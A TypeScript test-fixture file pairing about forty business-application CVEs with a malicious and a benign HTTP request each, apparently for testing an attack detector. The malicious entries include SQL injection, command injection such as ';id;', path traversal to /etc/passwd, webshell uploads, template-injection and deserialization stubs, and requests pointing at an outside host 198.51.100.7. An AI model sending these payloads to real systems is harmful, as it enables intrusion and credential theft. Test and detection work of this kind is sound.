import type { Cases } from './cases.ts';

export const businessApplications: Cases = {
  'CVE-2020-7961': [
    'POST /api/jsonws/invoke\n\ncmd={"/expandocolumn/update-column":{}}&p_auth=a&columnId=1&name=2&type=3&+defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource={"userOverridesAsString":"HexAsciiSerializedMap:ac;"}',
    'POST /api/jsonws/invoke\n\ncmd={"/group/get-user-sites":{}}',
  ],
  'CVE-2023-22952': [
    'POST /index.php\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="module"\r\n\r\nEmailTemplates\r\n--a\r\nContent-Disposition: form-data; name="action"\r\n\r\nAttachFiles\r\n--a\r\nContent-Disposition: form-data; name="file"; filename="sweet.phar"\r\n\r\n<?php',
    'POST /index.php\n\nmodule=EmailTemplates&action=DetailView',
  ],
  'CVE-2021-42258': [
    'POST /ws2020/default.aspx\n\n__EVENTTARGET=cmdOK&txtID=uname%27&txtPW=passwd&hdnClientDPI=96',
    'POST /ws2020/default.aspx\n\n__EVENTTARGET=cmdOK&txtID=anna&txtPW=x',
  ],
  'CVE-2021-30116': ['POST /cgi-bin/KUpload.dll\n\nagent.crt', 'GET /downloads/kupload.html'],
  'CVE-2021-22502': [
    'POST /AdminService/urest/v1/LogonResource\n\n{"userName":"admin$(id)","credential":"a"}',
    'POST /AdminService/urest/v1/Reports\n\n{}',
  ],
  'CVE-2021-27852': ['POST /Survey.aspx\n\n_VSTATE=AAEAAAD%2f%2f%2f%2f%2f', 'POST /Survey.aspx\n\nanswer=1'],
  'CVE-2022-22536': [
    'GET /sap/admin/public/default.html\nContent-Length: 82646\nConnection: keep-alive\n\nGET / HTTP/1.1',
    'GET /sap/admin/public/default.html',
  ],
  'CVE-2016-2386': [
    "POST /UDDISecurityService/UDDISecurityImplBean\n\n<soapenv:Body><sec:deletePermissionById><permissionId>1' AND 1=(select COUNT(*) from J2EE_CONFIGENTRY)--</permissionId>",
    'POST /UDDISecurityService/UDDISecurityImplBean\n\n<permissionId>12</permissionId>',
  ],
  'CVE-2022-47986': [
    'POST /aspera/faspex/package_relay/relay_package\n\n{"package_file_list":["/"],"external_emails":"\\n---\\n- !ruby/object:Gem::Installer\\n    i: x"}',
    'POST /aspera/faspex/package_relay/status\n\n{}',
  ],
  'CVE-2022-26352': [
    'POST /api/content/\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="name"; filename="../../../../srv/dotserver/tomcat-9/webapps/ROOT/a.jsp"\r\n\r\n<% %>',
    'POST /api/content/\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="name"; filename="a.pdf"\r\n\r\n%PDF',
  ],
  'CVE-2023-27532': [
    '<RemoteInvokeSpec ContextSessionId="a" Scope="Service" Method="CredentialsDbScopeGetAllCreds"/>',
    '<RemoteInvokeSpec Scope="Service" Method="GetVersion"/>',
  ],
  'CVE-2023-49070': [
    'POST /webtools/control/xmlrpc;/?USERNAME=&PASSWORD=s&requirePasswordChange=Y\n\n<methodCall><params><param><value><serializable>rO0AB</serializable></value></param></params></methodCall>',
    'POST /blog/control/xmlrpc\n\n<methodCall/>',
  ],
  'CVE-2024-36104': [
    'POST /webtools/control/forgotPassword/;%2e%2e/ProgramExport\n\ngroovyProgram=throw+new+Exception(1)',
    'GET /webtools/control/forgotPassword',
  ],
  'CVE-2021-31166': [
    'GET /\nAccept-Encoding: doar-e, ftw, imo, ,',
    'GET /\nAccept-Encoding: gzip, deflate, br',
  ],
  'CVE-2020-0618': [
    'POST /ReportServer/pages/ReportViewer.aspx\n\nNavigationCorrector$PageState=NeedsCorrection&NavigationCorrector$ViewState=/wEy4hYAAQ',
    'GET /ReportServer/pages/ReportViewer.aspx?%2fSales',
  ],
  'CVE-2019-9874': [
    'POST /sitecore/shell/Applications/Dialogs/a.aspx\n\n__CSRFTOKEN=%2FwEylhEAAQAAAP%2F%2F%2F%2F8B',
    'POST /sitecore/login\n\n__CSRFTOKEN=4f2a',
  ],
  'CVE-2025-37164': [
    'PUT /rest/id-pools/executeCommand\n\n{"cmd":"id","result":""}',
    'GET /rest/id-pools/vmac',
  ],
  'CVE-2025-5086': [
    'POST /apriso/WebServices/FlexNetOperationsService.svc/Invoke\n\n<Invoke>H4sIA</Invoke>',
    'GET /apriso/WebServices/help',
  ],
  'CVE-2025-6205': [
    'POST /Apriso/MessageProcessor/FlexNetMessageProcessor.svc\n\n<soap:Envelope>CreateEmployee</soap:Envelope>',
    'GET /Apriso/Portal/messages',
  ],
  'CVE-2025-25181': [
    "GET /pmsapp/timeoutWarning.asp?PmSess1=1';WAITFOR+DELAY+'0:0:5'--",
    'GET /timeoutWarning.asp?PmSess1=48151623',
  ],
  'CVE-2024-57968': [
    'POST /pmsapp/upload.aspx\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="f"; filename="k.aspx"\r\n\r\n<%@ %>',
    'POST /gallery/upload.aspx\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="f"; filename="k.png"\r\n\r\nPNG',
  ],
  'CVE-2026-24423': [
    'POST /api/v1/settings/sysadmin/connect-to-hub\n\n{"hubAddress":"http://198.51.100.7/","oneTimePassword":"a","nodeName":"b"}',
    'GET /api/v1/settings/hub',
  ],
  'CVE-2025-11953': ['POST /open-url\n\n{"url":"cmd /c calc"}', 'GET /docs/open-url'],
  'CVE-2025-40536': [
    'GET /helpdesk/WebObjects/Helpdesk.woa/wo/bogus?badparam=/ajax/&wopage=LoginPref',
    'GET /helpdesk/WebObjects/Helpdesk.woa/wa/ticket?id=4',
  ],
  'CVE-2025-14611': ['GET /storage/filesvr.dn?t=vghpI7EToZUDIZDdprSubL3mTZ2', 'GET /storage/filesvr.html'],
  'CVE-2024-7399': [
    'POST /MagicInfo/servlet/SWUpdateFileUploader?fileName=./../../../../../../server/a.jsp&deviceType=x\n\n<% %>',
    'GET /MagicInfo/servlet/SWUpdateFileUploader?fileName=update.zip',
  ],
  'CVE-2023-25135': [
    'POST /ajax/api/user/save\n\nadminoptions=&options=&password=x&user[email]=a@b&user[searchprefs]=a:2:{i:0;O:27:"googlelogin_vendor_autoload":0:{}}',
    'POST /ajax/api/user/save\n\nuser[email]=a@b',
  ],
  'CVE-2024-9463': ['POST /API/convertCSVtoParquet.php\n\nramdisk=/tmp&path=;id;', 'GET /API/convert.php'],
  'CVE-2024-21650': [
    'POST /bin/register/XWiki/XWikiRegister\n\nregister_first_name=]]{{/html}}{{async}}{{groovy}}services.logging{{/groovy}}{{/async}}',
    'POST /bin/register/XWiki/XWikiRegister\n\nregister_first_name=Anna',
  ],
  'CVE-2024-31982': [
    'GET /bin/get/Main/DatabaseSearch?outputSyntax=plain&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln(1)%7B%7B%2Fgroovy%7D%7D',
    'GET /bin/get/Main/DatabaseSearch?text=holiday',
  ],
  'CVE-2023-26256': [
    'GET /plugins/servlet/snjFooterNavigationConfig?fileName=../../../../etc/passwd&fileMime=$textMime',
    'GET /plugins/servlet/snjFooterNavigationConfig?fileName=footer.css',
  ],
  'CVE-2023-26255': [
    'GET /plugins/servlet/snjCustomDesignConfig?fileName=../dbconfig.xmlpasswd&fileMime=$textMime',
    'GET /plugins/servlet/snjCustomDesignConfig?fileName=a.css',
  ],
  'CVE-2019-9621': [
    'POST /service/proxy?target=https://127.0.0.1:7071/service/admin/soap\n\n<soap/>',
    'GET /service/proxy.html',
  ],
  'CVE-2024-13160': [
    'POST /WSVulnerabilityCore/VulCore.asmx\n\n<GetHashForWildcard xmlns="http://tempuri.org/"><wildcard>\\\\198.51.100.7\\a\\*</wildcard></GetHashForWildcard>',
    'POST /WSVulnerabilityCore/VulCore.asmx\n\n<GetVersion/>',
  ],
  'CVE-2024-13161': [
    'POST /WSVulnerabilityCore/VulCore.asmx\n\n<GetHashForSingleFile xmlns="http://tempuri.org/"><wildcard>\\\\198.51.100.7\\a</wildcard></GetHashForSingleFile>',
    'POST /WSVulnerabilityCore/VulCore.asmx\n\n<GetVersion/>',
  ],
  'CVE-2021-22941': [
    'POST /upload.aspx?uploadid=%3C%25...%5C..%5CConfigService%5CViews%5CShared%5CError.cshtml&bp=123&accountid=123\n\na',
    'POST /upload.aspx?uploadid=7f3a\n\na',
  ],
  'CVE-2021-22054': [
    'GET /Catalog/BlobHandler.ashx?Url=YQB3AGUAdgAyADoAawB2ADAAOg',
    'GET /Catalog/BlobHandler.ashx?id=3',
  ],
  'CVE-2023-39143': [
    'GET /custom-report-example/..\\..\\..\\deployment\\sharp\\icons\\home-app.png',
    'GET /custom-report-example/a.html',
  ],
  'CVE-2023-38205': [
    'GET /hax/..CFIDE/wizards/common/utils.cfc?method=wizardHash&inPassword=foo&_cfclient=true&returnFormat=wddx',
    'GET /CFIDE/scripts/cfform.js',
  ],
  'CVE-2024-32640': [
    "POST /index.cfm/_api/json/v1/default/?method=processAsyncObject\n\nobject=displayregion&contenthistid=x%5c'&previewID=1",
    'POST /index.cfm/_api/json/v1/default/?method=processAsyncObject\n\nobject=displayregion&contenthistid=4A1F',
  ],
  'CVE-2020-10220': [
    'GET /commands.inc.php?searchOption=contains&searchField=a&search=search&searchColumn=command%20UNION%20ALL%20SELECT%20NULL--',
    'GET /commands.inc.php?searchColumn=command&search=show',
  ],
  'CVE-2020-17463': [
    'GET /fuel/pages/items/?search_term=&published=&layout=&limit=50&view_type=list&offset=0&order=asc&col=location+AND+(SELECT+1340+FROM+(SELECT(SLEEP(5)))a)&fuel_inline=0',
    'GET /fuel/pages/items/?order=asc&col=location',
  ],
};
